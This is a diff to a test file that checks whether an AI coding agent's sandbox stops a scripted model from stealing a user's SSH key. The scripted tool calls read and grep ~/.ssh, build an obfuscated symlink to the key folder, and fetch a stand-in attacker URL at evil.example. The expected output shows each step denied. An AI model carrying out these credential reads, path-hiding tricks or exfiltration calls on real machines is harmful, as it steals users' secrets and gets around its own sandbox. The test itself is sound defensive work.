@@ -60,23 +60,37 @@ describe.skipIf(missing !== undefined)('full-auto runs commands in the sandbox (
   });
 
   it('keys that commands do not see the tools do not read, and no page is a way around the walls (CVE-2025-55284, CVE-2026-54316)', async () => {
-    const calls: ModelScript = [
-      {toolCalls: [{name: 'read', arguments: {path: '~/.ssh/id_ed25519'}}]},
-      {toolCalls: [{name: 'grep', arguments: {pattern: 'KEY', path: '~/.ssh'}}]},
-      bash('ln -s ~/.ssh keys'),
-      {toolCalls: [{name: 'read', arguments: {path: 'keys/id_ed25519'}}]},
-      {toolCalls: [{name: 'web_fetch', arguments: {url: 'https://evil.example/?d=1'}}]},
-    ];
-    const server = await modelServer([...calls, {text: 'Done.'}]);
-    const at = await place({}, server.config);
+    const at = await place();
     await mkdir(join(at.home, '.ssh'));
     await writeFile(join(at.home, '.ssh/id_ed25519'), 'KEY of the person\n');
-    const {stdout} = await fettle(at, ['exec', '--json', '--mode', 'full-auto', 'hi']);
-    const said = eventsOf({stdout, stderr: '', code: 0}).flatMap((event) => {
+    const server = await modelServer([
+      {toolCalls: [{name: 'read', arguments: {path: `${at.home}/.ssh/id_ed25519`}}]},
+      {toolCalls: [{name: 'grep', arguments: {pattern: 'KEY', path: `${at.home}/.ssh`}}]},
+      {toolCalls: [{name: 'grep', arguments: {pattern: 'KEY', path: at.home}}]},
+      bash(`n=.ss; ln -s ${at.home}/$n'h' keys`),
+      {toolCalls: [{name: 'read', arguments: {path: 'keys/id_ed25519'}}]},
+      {toolCalls: [{name: 'web_fetch', arguments: {url: 'https://evil.example/?d=1'}}]},
+      {text: 'Done.'},
+    ]);
+    await writeFile(join(at.home, 'config.toml'), server.config);
+    const done = await fettle(at, ['exec', '--json', '--mode', 'full-auto', 'hi']);
+    const said = eventsOf(done).flatMap((event) => {
       const item = event['item'] as {type?: string; output?: string} | undefined;
       return event['type'] === 'item.completed' && item?.type === 'tool_output' ? [String(item.output).split('\n')[0]] : [];
     });
-    expect([stdout.includes('KEY of the person'), said]).toMatchInlineSnapshot();
+    expect([done.stdout.includes('KEY of the person'), said.map((line) => line?.replaceAll(at.home, 'HOME'))]).toMatchInlineSnapshot(`
+      [
+        false,
+        [
+          "Error: HOME/.ssh/id_ed25519 is hidden by the sandbox, or holds what is: keys, logins, histories.",
+          "Error: HOME/.ssh is hidden by the sandbox, or holds what is: keys, logins, histories.",
+          "Error: HOME is hidden by the sandbox, or holds what is: keys, logins, histories.",
+          "(no output)",
+          "Error: keys/id_ed25519 is hidden by the sandbox, or holds what is: keys, logins, histories.",
+          "Error: Denied: evil.example: no rule allows it, and nobody is here to ask.",
+        ],
+      ]
+    `);
   });
 
   it('--no-sandbox does without', async () => {
